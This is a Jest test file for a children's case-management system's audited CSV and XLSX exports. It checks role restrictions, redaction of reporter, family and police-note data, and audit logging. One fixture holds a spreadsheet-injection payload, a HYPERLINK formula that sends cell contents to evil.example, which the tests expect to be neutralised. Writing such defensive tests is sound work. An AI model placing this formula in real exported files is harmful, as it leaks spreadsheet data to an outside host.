import ExcelJS from 'exceljs';
import { randomUUID } from 'node:crypto';
import { request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { parseCsv } from '../../src/exports/writers/testing/csv';
import { createFileWithContacts, insertRescue } from '../support/reports-fixtures';
import { freshAddress, TAIHE } from '../support/sightings-fixtures';
import { createTestApp, type TestApp, USERS } from '../test-app';

/** Audited CSV/XLSX exports: supervisors only, role's columns, neutralised cells, scope, row counts. */
describe('Exports', () => {
  let t: TestApp;
  let supervisor: string;
  let officer: string;
  const SECRETS = { reporterPhone: '13912345678', familyPhone: '13687654321', notes: '线人代号青松在车站接头', family: '13500001111' };
  const FORMULA_PLACE = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
  const FORMULA_SIGHTING = '@SUM(A1:A9) 车站乞讨的男孩';

  /** GETs an export as bytes. */
  const download = (path: string, auth = supervisor) =>
    t
      .http()
      .get(path)
      .set('Authorization', auth)
      .buffer(true)
      .parse((res, cb) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => cb(null, Buffer.concat(chunks)));
      });
  const csvRows = (bytes: Buffer) => {
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    return parseCsv(bytes.toString('utf8').slice(1));
  };
  const lastAudit = async (action: string) =>
    (await t.dataSource.query(`SELECT action, outcome, entity_type, details FROM audit_events WHERE action = $1 ORDER BY id DESC LIMIT 1`, [action]))[0];
  const auditCount = async () => Number((await t.dataSource.query(`SELECT count(*)::int AS n FROM audit_events WHERE action LIKE 'export%'`))[0].n);

  beforeAll(async () => {
    t = await createTestApp();
    supervisor = await t.bearer(USERS.supervisor);
    officer = await t.bearer(USERS.officer);
    await createFileWithContacts(t, officer, { fullName: '王小明', lastSeenPlace: FORMULA_PLACE, ...SECRETS });
    await createFileWithContacts(t, officer, { fullName: '张小华', ...SECRETS });
    await createFileWithContacts(t, await t.bearer(USERS.pudongOfficer), { fullName: '浦东孩子', jurisdictionCode: '310115', lastSeenPlace: '浦东新区陆家嘴', ...SECRETS });
    const sighting = await t
      .http()
      .post('/api/v1/public/sightings')
      .set('X-Forwarded-For', freshAddress())
      .set('Idempotency-Key', randomUUID())
      .send({ latitude: TAIHE.lat, longitude: TAIHE.lng, description: FORMULA_SIGHTING, reporterContact: SECRETS.reporterPhone });
    expect(sighting.status).toBe(201);
    await insertRescue(t, { place: '太和县城关镇火车站广场', jurisdictionCode: '341222', occurredAt: '2026-04-02T02:00:00Z', notes: SECRETS.notes, suspects: 3, children: [{ name: '李小红', sex: 'female', age: 8 }] });
    await insertRescue(t, { place: '浦东新区陆家嘴地铁站', jurisdictionCode: '310115', occurredAt: '2026-04-03T02:00:00Z', children: [] });
  });
  afterAll(() => t.close());

  it('refuses every role but supervisors (403), writes and audits nothing', async () => {
    const before = await auditCount();
    for (const who of [USERS.officer, USERS.ngo, USERS.lab, USERS.admin]) {
      const auth = await t.bearer(who);
      for (const kind of ['cases', 'sightings', 'rescues', 'reunions', 'statistics']) {
        const res = await t.http().get(`/api/v1/exports/${kind}?format=csv`).set('Authorization', auth);
        expect(res.status).toBe(403);
        expect(res.headers['content-disposition']).toBeUndefined();
      }
    }
    expect(await auditCount()).toBe(before);
  });

  it('exports files as CSV: the supervisor’s scope only, no reporter or family, formulas neutralised, audited with the row count', async () => {
    const res = await download('/api/v1/exports/cases?format=csv&language=zh-CN');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="homeward-cases-\d{8}\.csv"$/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['cache-control']).toBe('no-store');
    const [header, ...rows] = csvRows(res.body);
    expect(header).toContain('案件编号');
    expect(header).toContain('责任民警');
    const names = rows.map((r) => r[header.indexOf('儿童姓名')]);
    expect(names.sort()).toEqual(['张小华', '王小明']);
    const places = rows.map((r) => r[header.indexOf('最后出现地点')]);
    expect(places).toContain(`'${FORMULA_PLACE}`);
    const text = res.body.toString('utf8');
    for (const secret of [SECRETS.reporterPhone, SECRETS.familyPhone, '张建国', '李秀英', '341222198001011234', '浦东']) expect(text).not.toContain(secret);
    const audit = await lastAudit('export');
    expect(audit).toMatchObject({ outcome: 'success', entity_type: 'Export', details: { kind: 'cases', format: 'csv', rowCount: 2 } });
    const start = await lastAudit('export.start');
    expect(start.details).toMatchObject({ kind: 'cases', format: 'csv' });
  });

  it('applies the list filters and records them in the audit entry', async () => {
    const res = await download(`/api/v1/exports/cases?format=csv&q=${encodeURIComponent('王小明')}`);
    expect(res.status).toBe(200);
    const [, ...rows] = csvRows(res.body);
    expect(rows).toHaveLength(1);
    expect((await lastAudit('export')).details).toMatchObject({ kind: 'cases', filters: { q: '王小明' }, rowCount: 1 });
  });

  it('exports sightings as XLSX with the description as neutralised text and no reporter contact', async () => {
    const res = await download('/api/v1/exports/sightings?format=xlsx&language=en');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.body as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    expect(sheet.name).toBe('Sightings');
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const description = sheet.getRow(2).getCell(header.indexOf('Description') + 1);
    expect(description.type).toBe(ExcelJS.ValueType.String);
    expect(description.value).toBe(`'${FORMULA_SIGHTING}`);
    expect(sheet.actualRowCount).toBe(2);
    expect(res.body.toString('latin1')).not.toContain(SECRETS.reporterPhone);
    expect((await lastAudit('export')).details).toMatchObject({ kind: 'sightings', format: 'xlsx', rowCount: 1 });
  });

  it('exports rescues without police notes, inside the scope', async () => {
    const res = await download('/api/v1/exports/rescues?format=csv&language=en');
    const [header, ...rows] = csvRows(res.body);
    expect(rows).toHaveLength(1);
    expect(rows[0][header.indexOf('Children recovered')]).toBe('1');
    expect(rows[0][header.indexOf('Suspects detained')]).toBe('3');
    expect(res.body.toString('utf8')).not.toContain(SECRETS.notes);
    expect((await lastAudit('export')).details).toMatchObject({ kind: 'rescues', rowCount: 1 });
  });

  it('exports reunions without the family members present', async () => {
    const [file] = await t.dataSource.query(`SELECT id, jurisdiction_path FROM cases WHERE child_full_name = '张小华'`);
    await t.dataSource.query(
      `INSERT INTO reunions (case_id, reunited_on, place, family_present, evidence_kind, other_verification, verification_status, jurisdiction_path, logged_by)
       SELECT $1, '2026-05-01', '太和县旧县镇', $3::jsonb, 'other', '户籍照片比对', 'verified', $2, id FROM users WHERE username = 'supervisor'`,
      [file.id, file.jurisdiction_path, JSON.stringify([{ name: '李秀英', relationship: 'mother', phone: SECRETS.family }])],
    );
    const res = await download('/api/v1/exports/reunions?format=csv&language=en&status=verified');
    const [header, ...rows] = csvRows(res.body);
    expect(rows).toHaveLength(1);
    expect(rows[0][header.indexOf('Child')]).toBe('张小华');
    const text = res.body.toString('utf8');
    for (const secret of ['李秀英', SECRETS.family, '户籍照片比对']) expect(text).not.toContain(secret);
  });

  it('exports statistics per jurisdiction, rolled up', async () => {
    const res = await download('/api/v1/exports/statistics?format=csv&language=en');
    expect(res.status).toBe(200);
    const [header, ...rows] = csvRows(res.body);
    const taihe = rows.find((r) => r[header.indexOf('Jurisdiction code')] === '341222');
    expect(taihe?.[header.indexOf('Files opened')]).toBe('2');
    expect(rows.some((r) => r[header.indexOf('Jurisdiction code')] === '310115')).toBe(false);
    expect((await lastAudit('export')).details).toMatchObject({ kind: 'statistics', rowCount: rows.length });
  });

  it.each([
    ['/api/v1/exports/cases?format=pdf', 400],
    ['/api/v1/exports/cases?status=lost', 400],
    ['/api/v1/exports/rescues?from=2026-05-01T00:00:00Z&to=2026-04-01T00:00:00Z', 400],
    ['/api/v1/exports/rescues?jurisdictionCode=999999', 422],
    ['/api/v1/exports/cases?page=2', 400],
    ['/api/v1/exports/files', 404],
  ])('%s → %i, nothing written or audited', async (path, status) => {
    const before = await auditCount();
    const res = await t.http().get(path).set('Authorization', supervisor);
    expect(res.status).toBe(status);
    expect(res.headers['content-disposition']).toBeUndefined();
    expect(await auditCount()).toBe(before);
  });
  it('audits a download cut off by the client as a failure with the rows sent so far (runs last: adds 30,000 files)', async () => {
    const [taihe] = await t.dataSource.query(`SELECT id, path FROM jurisdictions WHERE code = '341222'`);
    await t.dataSource.query(
      `INSERT INTO cases (case_number, child_full_name, search_pinyin, child_sex, child_birth_date_estimate, last_seen_at, last_seen_place,
                          priority, status, jurisdiction_id, jurisdiction_path, created_at, updated_at)
       SELECT 'MC-2024-' || lpad(g::text, 6, '0'), '测试儿童' || g, '', 'male', date '2018-01-01', now(), '太和县城关镇火车站广场附近的一个很长的地址描述',
              'normal', 'open', $1, $2, now(), now()
         FROM generate_series(1, 30000) g`,
      [taihe.id, taihe.path],
    );
    // A real socket that the client can close mid-download (supertest reads whole responses).
    const server = t.app.getHttpServer() as Server;
    if (!server.listening) await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    await new Promise<void>((resolve, reject) => {
      const req = request({ host: '127.0.0.1', port, path: '/api/v1/exports/cases?format=csv', headers: { Authorization: supervisor } }, (res) => {
        expect(res.statusCode).toBe(200);
        res.once('data', () => {
          req.destroy(); // the person closes the tab after the first bytes
          resolve();
        });
      });
      req.on('error', (error) => (error.message.includes('socket hang up') || error.message.includes('aborted') ? undefined : reject(error)));
      req.end();
    });
    let audit: { outcome: string; details: { rowCount: number; completed?: boolean } } | undefined;
    for (let i = 0; i < 100 && audit?.outcome !== 'failure'; i++) {
      await new Promise((resolve) => setTimeout(resolve, 100));
      audit = await lastAudit('export');
    }
    expect(audit).toMatchObject({ outcome: 'failure', details: { kind: 'cases', completed: false } });
    expect(audit?.details.rowCount).toBeGreaterThan(0);
    expect(audit?.details.rowCount).toBeLessThan(30_002);
  });
});
